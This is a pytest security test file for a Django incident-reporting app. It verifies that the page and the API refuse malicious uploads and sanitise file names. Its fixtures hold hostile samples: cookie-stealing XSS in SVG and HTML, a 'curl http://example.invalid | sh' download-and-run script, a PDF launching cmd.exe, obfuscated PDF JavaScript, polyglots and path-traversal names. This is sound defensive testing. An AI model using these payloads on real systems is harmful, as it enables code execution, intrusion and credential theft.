"""Malicious uploads are refused through the real doors: the officeholder's page and the API.

Each case is a file that must never become evidence, whatever its name: a polyglot (a photo
or PDF that is also markup or an archive), SVG, HTML, an executable or script, an archive,
a PDF that runs or launches something or carries files, and a ZIP, program or page with
e-mail headers in front of it (issue 12, finding 3). The officeholder gets the form back with
a message naming the file and the reason; the API answers 400 with the same reason. Nothing
is stored. Accepted files keep a safe name with the extension of what they are (a PDF called
`aangifte.pdf.bat`, `brief.hta` or `scan.html` is downloaded as a .pdf) and are only ever
served as a download that the browser may not sniff.
"""

import base64
import gzip
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from incidents.models import Evidence
from tests.security.conftest import log_in

pytestmark = pytest.mark.django_db

# The reasons `evidence_inspect` gives (Dutch, the default language); one must be shown.
REASONS = (
    "Dit soort bestand kunnen wij niet aannemen",
    "Dit bestand is geen leesbare foto of PDF",
    "Dit bestandstype wordt niet ondersteund",
    "Deze PDF bevat JavaScript, automatische acties of ingesloten bestanden.",
    "In dit e-mailbericht zit een archief of een programma.",
    "Dit lijkt een e-mail, maar de inhoud is een webpagina.",
    "Dit bestand is geen e-mail, ook al zegt de naam dat wel.",
)


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 200)).save(out, format="PNG")
    return out.getvalue()


def _pdf(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _open_action(action):
    return lambda writer: writer._root_object.__setitem__(NameObject("/OpenAction"), action)


def _page_actions(writer) -> None:
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/URI", URI="https://example.invalid/track")}
    )


def _escaped_javascript() -> bytes:
    """JavaScript behind #-escaped names, which a byte search for "/JavaScript" misses."""
    data = _pdf(lambda writer: writer.add_js("app.alert('hoi');"))
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def _email(body: bytes, *headers: bytes) -> bytes:
    head = headers or (
        b"From: Boze Burger <boos@example.nl>",
        b"To: wethouder@gemeente.example.nl",
        b"Subject: Factuur",
    )
    return b"\r\n".join(head) + b"\r\n\r\n" + body


def _email_with_attachment(filename: str, payload: bytes) -> bytes:
    encoded = base64.encodebytes(payload)
    return _email(
        b"--grens\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nZie bijlage.\r\n"
        b"--grens\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="'
        + filename.encode()
        + b'"\r\n\r\n'
        + encoded
        + b"--grens--\r\n",
        b"From: Boze Burger <boos@example.nl>",
        b"To: wethouder@gemeente.example.nl",
        b"Subject: Uw factuur",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="grens"',
    )


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<b>hallo</b>")
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56

MALICIOUS = {
    # Polyglots: valid as a photo or PDF, and at the same time something else.
    "png+zip": ("foto.png", _png() + _zip()),
    "png+html": ("foto.png", _png() + HTML),
    "pdf+html": ("aangifte.pdf", _pdf() + HTML),
    "pdf+zip": ("aangifte.pdf", _pdf() + _zip()),
    "ascii-pdf+html-after-2kb": ("aangifte.pdf", _pdf() + b"%" * 2048 + HTML),
    # SVG and HTML, under their own names and under innocent ones.
    "svg": ("logo.svg", SVG),
    "svg-as-png": ("foto.png", SVG),
    "svg-as-txt": ("notitie.txt", SVG),
    "html": ("pagina.html", HTML),
    "html-as-txt": ("brief.txt", HTML),
    "html-as-jpg": ("foto.jpg", HTML),
    # Executables and scripts.
    "exe": ("programma.exe", PE),
    "exe-as-jpg": ("foto.jpg", PE),
    "elf-as-txt": ("notitie.txt", ELF),
    "shell-script-as-txt": ("notitie.txt", b"#!/bin/sh\ncurl http://example.invalid | sh\n"),
    # Archives.
    "zip": ("bewijs.zip", _zip()),
    "zip-as-pdf": ("scan.pdf", _zip()),
    "zip-as-txt": ("notitie.txt", _zip()),
    "gzip-as-txt": ("notitie.txt", gzip.compress(b"verslag")),
    "rar-as-txt": ("notitie.txt", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32),
    "7z-as-txt": ("notitie.txt", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32),
    # PDFs that run, open or launch something, or carry files: refused, not cleaned.
    "pdf-javascript": ("aangifte.pdf", _pdf(lambda writer: writer.add_js("app.alert(1);"))),
    "pdf-javascript-escaped-names": ("aangifte.pdf", _escaped_javascript()),
    "pdf-open-action-javascript": (
        "aangifte.pdf",
        _pdf(_open_action(_action("/JavaScript", JS="app.launchURL('https://x.invalid');"))),
    ),
    "pdf-open-action-launch": ("brief.pdf", _pdf(_open_action(_action("/Launch", F="cmd.exe")))),
    "pdf-page-actions": ("brief.pdf", _pdf(_page_actions)),
    "pdf-embedded-file": (
        "brief.pdf",
        _pdf(lambda writer: writer.add_attachment("factuur.exe", PE)),
    ),
    # E-mail headers in front of something else: "From:/Subject:" make no e-mail of it.
    "headers+zip": ("bericht.eml", _email(_zip())),
    "headers+exe": ("bericht.eml", _email(PE)),
    "headers+html": ("bericht.eml", _email(HTML)),
    "headers+html-as-txt": ("notitie.txt", _email(HTML)),
    "html-then-headers": ("bericht.eml", HTML + b"\r\n" + _email(b"Hallo")),
    "text-then-headers": ("bericht.eml", b"Hallo,\r\n" + _email(b"Tot ziens")),
}

# Attachments that are archives or programs, named in the message.
BAD_ATTACHMENTS = {
    "zip": ("factuur.zip", _zip(), "De bijlage factuur.zip is een archief."),
    "zip-named-pdf": ("factuur.pdf", _zip(), "De bijlage factuur.pdf is een archief."),
    "gzip": ("logboek.txt.gz", gzip.compress(b"log"), "De bijlage logboek.txt.gz is een archief."),
    "exe": ("factuur.pdf.exe", PE, "De bijlage factuur.pdf.exe is een programma."),
    "script": ("update.js", b"WScript.Shell", "De bijlage update.js is een programma."),
    "elf": ("foto", ELF, "De bijlage foto is een programma."),
}


def _upload(name: str, data: bytes) -> io.BytesIO:
    upload = io.BytesIO(data)
    upload.name = name
    return upload


@pytest.mark.parametrize("case", MALICIOUS, ids=str)
def test_officeholder_page_refuses_with_a_clear_message(case, world, client):
    """The follow-up form comes back with the file's name and why; nothing is stored."""
    name, data = MALICIOUS[case]
    incident = world.incidents["submitted"]
    log_in(client, world.users["owner"])
    before = Evidence.objects.count()
    response = client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload(name, data)},
    )
    assert response.status_code == 200
    errors = " ".join(response.context["follow_up_form"].errors["evidence"])
    assert name in errors
    assert any(reason in errors for reason in REASONS), errors
    assert name in response.content.decode()
    assert Evidence.objects.count() == before


@pytest.mark.parametrize("case", MALICIOUS, ids=str)
def test_api_refuses_with_a_clear_message(case, world, api_client_for):
    """POST /api/v1/incidents/<ref>/evidence/ answers 400 naming the file and the reason."""
    name, data = MALICIOUS[case]
    incident = world.incidents["submitted"]
    before = Evidence.objects.count()
    response = api_client_for("owner").post(
        reverse("api:incident-evidence", args=[incident.reference]),
        {"file": _upload(name, data)},
        format="multipart",
    )
    assert response.status_code == 400, response.content[:300]
    detail = " ".join(response.json()["error"]["fields"]["file"])
    assert name in detail
    assert any(reason in detail for reason in REASONS), detail
    assert Evidence.objects.count() == before


def _assert_safe_download(response, expected_name: str) -> None:
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;"), disposition
    assert f'filename="{expected_name}"' in disposition
    assert response["X-Content-Type-Options"] == "nosniff"


def test_path_traversal_name_is_sanitised_on_the_page_and_served_as_attachment(
    world, client, private_storage_in_tmp
):
    """A name like "../../etc/passwd.txt" becomes "passwd.txt", inside the private root."""
    incident = world.incidents["submitted"]
    log_in(client, world.users["owner"])
    response = client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload("../../etc/passwd.txt", b"Getuigenverklaring.")},
    )
    assert response.status_code == 302
    evidence = incident.evidence.latest("pk")
    assert evidence.original_name == "passwd.txt"
    assert ".." not in evidence.file.name
    stored = (private_storage_in_tmp / evidence.file.name).resolve()
    assert stored.is_relative_to(private_storage_in_tmp.resolve())
    _assert_safe_download(client.get(evidence.get_absolute_url()), "passwd.txt")


def test_path_traversal_name_is_sanitised_in_the_api_and_served_as_attachment(
    world, api_client_for
):
    """The API stores the same safe name and serves the file as a nosniff attachment."""
    incident = world.incidents["submitted"]
    client = api_client_for("owner")
    response = client.post(
        reverse("api:incident-evidence", args=[incident.reference]),
        {"file": _upload("..\\..\\windows\\win.ini.txt", b"Getuigenverklaring.")},
        format="multipart",
    )
    assert response.status_code == 201, response.content[:300]
    evidence = incident.evidence.latest("pk")
    assert evidence.original_name == "win.ini.txt"
    url = reverse("api:incident-evidence-download", args=[incident.reference, evidence.pk])
    _assert_safe_download(client.get(url), "win.ini.txt")


def test_text_named_html_is_stored_and_served_as_plain_text(world, client):
    """A harmless text file called "pagina.html" is kept as .txt, text/plain, as a download."""
    incident = world.incidents["submitted"]
    log_in(client, world.users["owner"])
    client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload("pagina.html", b"Gewoon tekst, geen opmaak.")},
    )
    evidence = incident.evidence.latest("pk")
    assert evidence.original_name == "pagina.txt"
    response = client.get(evidence.get_absolute_url())
    _assert_safe_download(response, "pagina.txt")
    assert response["Content-Type"].startswith("text/plain")


@pytest.mark.parametrize("case", BAD_ATTACHMENTS, ids=str)
def test_email_with_an_archive_or_program_attached_is_refused_naming_it(case, world, client):
    """An e-mail is checked part by part; an archive or a program is named in the message."""
    filename, payload, message = BAD_ATTACHMENTS[case]
    incident = world.incidents["submitted"]
    before = incident.evidence.count()
    log_in(client, world.users["owner"])
    response = client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {
            "text": "",
            "evidence": _upload("dreigmail.eml", _email_with_attachment(filename, payload)),
        },
    )
    assert response.status_code == 200
    assert f"dreigmail.eml: {message}" in response.context["follow_up_form"].errors["evidence"]
    assert incident.evidence.count() == before


def test_real_email_with_html_part_and_harmless_attachment_is_kept_as_a_download(world, client):
    """A genuine e-mail, HTML part and a PDF attachment included, is kept byte for byte and
    only ever downloaded (message/rfc822, attachment): its HTML is never rendered."""
    body = (
        b"--b\r\nContent-Type: text/plain\r\n\r\nPas maar op.\r\n"
        b"--b\r\nContent-Type: text/html\r\n\r\n<html><body><p>Pas op.</p></body></html>\r\n"
        b"--b--\r\n"
    )
    data = _email(
        body,
        b"From: boos@example.nl",
        b"To: raadslid@example.nl",
        b"Subject: Laatste waarschuwing",
        b"Date: Mon, 9 Mar 2026 08:12:00 +0100",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/alternative; boundary="b"',
    )
    incident = world.incidents["submitted"]
    log_in(client, world.users["owner"])
    response = client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload("waarschuwing.html", data)},
    )
    assert response.status_code == 302
    evidence = incident.evidence.latest("pk")
    assert (evidence.kind, evidence.original_name) == ("email", "waarschuwing.eml")
    download = client.get(evidence.get_absolute_url())
    _assert_safe_download(download, "waarschuwing.eml")
    assert download["Content-Type"] == "message/rfc822"
    assert b"".join(download.streaming_content) == data
    with_pdf = _email_with_attachment("aangifte.pdf", _pdf())
    client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload("met-bijlage.eml", with_pdf)},
    )
    assert incident.evidence.latest("pk").original_name == "met-bijlage.eml"


def test_pdf_that_opens_at_a_page_is_not_an_action(world, client):
    """An /OpenAction that is only a destination ("open at page 1", as office suites write
    it) runs nothing: such a PDF is accepted, byte for byte."""

    def open_at_first_page(writer):
        page = writer.pages[0].indirect_reference
        writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])

    data = _pdf(open_at_first_page)
    assert b"/OpenAction" in data
    incident = world.incidents["submitted"]
    log_in(client, world.users["owner"])
    client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload("verslag.pdf", data)},
    )
    evidence = incident.evidence.latest("pk")
    assert evidence.original_name == "verslag.pdf"
    assert evidence.sha256 == evidence.original_sha256


RENAMED_PDFS = {
    "aangifte.pdf.bat": "aangifte.pdf",
    "brief.hta": "brief.pdf",
    "scan.html": "scan.pdf",
    "rapport": "rapport.pdf",
}


@pytest.mark.parametrize("name", RENAMED_PDFS, ids=str)
def test_a_renamed_pdf_is_stored_and_downloaded_as_pdf_from_the_page(name, world, client):
    """A real PDF called aangifte.pdf.bat, brief.hta or scan.html is never downloaded under
    that name: the name follows the detected kind."""
    incident = world.incidents["submitted"]
    log_in(client, world.users["owner"])
    client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload(name, _pdf())},
    )
    evidence = incident.evidence.latest("pk")
    assert evidence.original_name == RENAMED_PDFS[name]
    response = client.get(evidence.get_absolute_url())
    _assert_safe_download(response, RENAMED_PDFS[name])
    assert response["Content-Type"] == "application/pdf"


@pytest.mark.parametrize("name", RENAMED_PDFS, ids=str)
def test_a_renamed_pdf_is_stored_and_downloaded_as_pdf_through_the_api(name, world, api_client_for):
    """The API stores and serves the same .pdf name."""
    incident = world.incidents["submitted"]
    client = api_client_for("owner")
    response = client.post(
        reverse("api:incident-evidence", args=[incident.reference]),
        {"file": _upload(name, _pdf())},
        format="multipart",
    )
    assert response.status_code == 201, response.content[:300]
    assert response.json()[0]["name"] == RENAMED_PDFS[name]
    url = reverse(
        "api:incident-evidence-download", args=[incident.reference, response.json()[0]["id"]]
    )
    _assert_safe_download(client.get(url), RENAMED_PDFS[name])


def test_a_pdf_stored_under_a_dangerous_name_earlier_is_served_as_pdf(world, client):
    """A row stored before this check (named brief.hta) is still downloaded as brief.pdf."""
    incident = world.incidents["submitted"]
    evidence = Evidence(
        incident=incident,
        original_name="brief.hta",
        kind="pdf",
        content_type="application/pdf",
        size=len(_pdf()),
        sha256="0" * 64,
        uploaded_at=timezone.now(),
    )
    evidence.file.save("evidence", io.BytesIO(_pdf()), save=True)
    log_in(client, world.users["owner"])
    _assert_safe_download(client.get(evidence.get_absolute_url()), "brief.pdf")
